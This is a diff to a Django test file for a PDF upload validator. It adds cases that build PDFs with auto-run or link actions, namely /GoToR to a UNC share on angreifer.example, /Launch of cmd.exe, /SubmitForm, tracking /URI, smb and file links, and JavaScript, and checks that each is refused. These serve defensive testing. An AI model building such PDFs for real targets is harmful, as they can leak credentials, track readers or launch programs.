@@ -1,12 +1,14 @@
 """Uploads of Anlagen: the type by content, refused kinds with their message, and a storage that cannot write."""
 
 import errno
+import io
 import os
 
 import pytest
 from django.core.exceptions import ValidationError
 from django.core.files.base import ContentFile
 from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
+from pypdf import PdfReader
 
 from tests.factories import (
     MINI_JPEG,
@@ -301,3 +303,123 @@ def test_storage_folder_that_is_a_file_gives_a_message(sachbearbeitung_client, m
     assert antwort.status_code == 200
     assert "Die Datei konnte nicht gespeichert werden" in speicherfehler_im_formular(antwort)
     assert not vorlage.anlagen.exists()
+
+
+# Actions that open, send or launch something ----------------------------------------------------------------------
+
+UNC = "\\\\\\\\angreifer.example\\\\freigabe\\\\bericht.pdf"
+
+
+def _bericht():
+    from tests import pdfs
+
+    return pdfs.text_pdf("Bericht zur Integrationspolitik")
+
+
+def _aktionen():
+    from tests import pdfs
+
+    a = pdfs.aktion
+    return {
+        "openaction gotor unc": (pdfs.mit_oeffnen_aktion(_bericht(), a("/GoToR", F=UNC)), "(/GoToR)"),
+        "openaction uri": (
+            pdfs.mit_oeffnen_aktion(_bericht(), a("/URI", URI="https://tracker.example/pixel")),
+            "ohne Klick eine Adresse aufruft (/URI „https://tracker.example/pixel“)",
+        ),
+        "openaction submitform": (
+            pdfs.mit_oeffnen_aktion(_bericht(), a("/SubmitForm", F="https://sammler.example/")),
+            "Formulardaten an einen Server sendet (/SubmitForm)",
+        ),
+        "openaction importdata": (
+            pdfs.mit_oeffnen_aktion(_bericht(), a("/ImportData", F=UNC)),
+            "Daten aus einer anderen Datei lädt (/ImportData)",
+        ),
+        "openaction launch": (pdfs.mit_oeffnen_aktion(_bericht(), a("/Launch", F="cmd.exe")), "(/Launch)"),
+        "openaction gotoe": (pdfs.mit_oeffnen_aktion(_bericht(), a("/GoToE")), "(/GoToE)"),
+        "seite aa uri": (
+            pdfs.mit_zusatzaktion(_bericht(), a("/URI", URI="https://tracker.example/")),
+            "ohne Klick eine Adresse aufruft",
+        ),
+        "dokument aa gotor": (pdfs.mit_zusatzaktion(_bericht(), a("/GoToR", F=UNC), ebene="dokument"), "(/GoToR)"),
+        "link launch": (pdfs.mit_link(_bericht(), a("/Launch", F="C:\\Windows\\System32\\calc.exe")), "(/Launch)"),
+        "link gotor": (pdfs.mit_link(_bericht(), a("/GoToR", F=UNC)), "(/GoToR)"),
+        "link javascript": (pdfs.mit_link(_bericht(), a("/JavaScript", JS="app.alert(1)")), "JavaScript"),
+        "link datei": (
+            pdfs.mit_link(_bericht(), a("/URI", URI="file://angreifer.example/freigabe/x.pdf")),
+            "keine Internet- oder E-Mail-Adresse ist (/URI)",
+        ),
+        "link smb": (pdfs.mit_link(_bericht(), a("/URI", URI="smb://angreifer.example/x")), "(/URI)"),
+    }
+
+
+AKTIONEN = [
+    "openaction gotor unc",
+    "openaction uri",
+    "openaction submitform",
+    "openaction importdata",
+    "openaction launch",
+    "openaction gotoe",
+    "seite aa uri",
+    "dokument aa gotor",
+    "link launch",
+    "link gotor",
+    "link javascript",
+    "link datei",
+    "link smb",
+]
+
+
+@pytest.fixture(scope="module")
+def aktionen():
+    return _aktionen()
+
+
+@pytest.mark.parametrize("fall", AKTIONEN)
+def test_pdf_with_an_action_that_opens_sends_or_launches_is_refused_with_its_reason(aktionen, fall):
+    inhalt, meldung = aktionen[fall]
+    anlage = Anlage(vorlage=VorlageFactory(), titel="Anlage", datei=ContentFile(inhalt, name="bericht.pdf"))
+
+    with pytest.raises(ValidationError) as fehler:
+        anlage.full_clean()
+
+    text = " ".join(fehler.value.message_dict["datei"])
+    assert "Die PDF-Datei enthält" in text and meldung in text
+    assert "nicht angenommen" in text
+
+
+def test_a_uri_action_shared_by_a_link_and_the_open_action_is_refused():
+    # The same action object, once clicked, once run on opening: the second use decides.
+    from pypdf import PdfWriter
+    from pypdf.generic import NameObject
+
+    from tests import pdfs
+
+    mit_link = pdfs.mit_link(_bericht(), pdfs.aktion("/URI", URI="https://tracker.example/"))
+    schreiber = PdfWriter(clone_from=io.BytesIO(mit_link))
+    link = schreiber.pages[0]["/Annots"][-1].get_object()
+    schreiber._root_object[NameObject("/OpenAction")] = link.raw_get("/A")
+    ausgabe = io.BytesIO()
+    schreiber.write(ausgabe)
+
+    with pytest.raises(ValidationError, match="ohne Klick eine Adresse aufruft"):
+        datei_pruefen(ContentFile(ausgabe.getvalue(), name="bericht.pdf"))
+
+
+def test_ordinary_web_links_in_the_text_are_accepted():
+    # Papers cite their sources: WeasyPrint writes real link annotations with /URI actions for these.
+    from tests import pdfs
+
+    inhalt = pdfs.weasyprint(
+        "<p>Quelle: <a href='https://www.stuttgart.de/integration'>Integrationspolitik</a>, "
+        "Kontakt: <a href='mailto:integration@stuttgart.de'>E-Mail</a></p>"
+    )
+    links = [a.get_object()["/A"] for a in PdfReader(io.BytesIO(inhalt)).pages[0]["/Annots"]]
+    assert {str(link["/URI"]) for link in links} == {
+        "https://www.stuttgart.de/integration",
+        "mailto:integration@stuttgart.de",
+    }
+    anlage = Anlage(vorlage=VorlageFactory(), titel="Bericht", datei=ContentFile(inhalt, name="bericht.pdf"))
+
+    anlage.full_clean()
+
+    assert anlage.mime_typ == "application/pdf"
